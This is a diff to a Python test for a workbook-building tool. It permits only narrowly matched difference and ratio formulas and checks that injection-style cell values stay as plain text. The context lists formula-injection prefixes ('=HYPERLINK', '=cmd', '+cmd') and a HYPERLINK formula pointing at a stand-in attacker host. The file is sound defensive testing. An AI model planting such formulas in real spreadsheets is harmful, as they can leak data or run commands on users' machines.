@@ -3,6 +3,7 @@ the outputs: every good report is analysed, every bad file is named, nothing is 
 
 from __future__ import annotations
 
+import re
 import shutil
 import sys
 from pathlib import Path
@@ -88,7 +89,12 @@ def test_no_workbook_cell_is_a_formula(built):
         for ws in openpyxl.load_workbook(path).worksheets:
             for row in ws.iter_rows():
                 for cell in row:
-                    assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate}: {cell.value!r}"
+                    if cell.data_type == "f":  # only the workbook's own 增减/变化率 formulas over its cells
+                        header = ws.cell(row=1, column=cell.column).value
+                        assert header in ("增减", "变化率"), f"{path.name}!{ws.title}!{cell.coordinate}: {cell.value!r}"
+                        assert re.fullmatch(r'=[A-Z]+\d+-[A-Z]+\d+|=IF\([A-Z]+\d+=0,"",\([A-Z]+\d+-[A-Z]+\d+\)/[A-Z]+\d+\)',
+                                            cell.value), cell.value
+                        continue
                     if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=HYPERLINK", "=cmd", "@SUM", "+cmd")):
                         seen.append(cell.value)
     assert any(v.startswith('=HYPERLINK("http://evil.example/x"') for v in seen)  # kept verbatim, as text
